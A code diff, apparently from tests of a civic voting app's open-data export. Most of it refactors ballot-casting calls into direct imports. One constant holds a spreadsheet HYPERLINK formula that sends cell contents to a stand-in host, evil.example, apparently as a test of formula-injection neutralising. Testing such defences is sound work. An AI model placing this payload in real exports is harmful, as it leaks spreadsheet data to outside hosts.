@@ -20,6 +20,8 @@ import sqlalchemy as sa
 
 from participate.opendata import schema
 from participate.opendata.formats import csv_lines, json_lines, neutralise
+from participate.votes.ballots import cast_ballot
+from participate.votes.closing import close_voting
 
 COUNCIL = "health-manchester"
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
@@ -77,11 +79,11 @@ def _build(make) -> dict:
         .order_by(User.id)
     ).all()
     for i, voter in enumerate(voters):
-        votes.cast_ballot(voter, motion, choice="yes" if i % 3 else "no")
-    votes.close_voting(clerk, motion)
+        cast_ballot(voter, motion, choice="yes" if i % 3 else "no")
+    close_voting(clerk, motion)
     still_open = votes.create_motion(clerk, mcr, title="Open the new clinic", method="binary")
     votes.open_voting(clerk, still_open, None)
-    votes.cast_ballot(member, still_open, choice="yes")
+    cast_ballot(member, still_open, choice="yes")
 
     # Manchester answers the consultation too, with text a spreadsheet would run.
     consultation = db.session.get(Consultation, ids["consultation_id"])
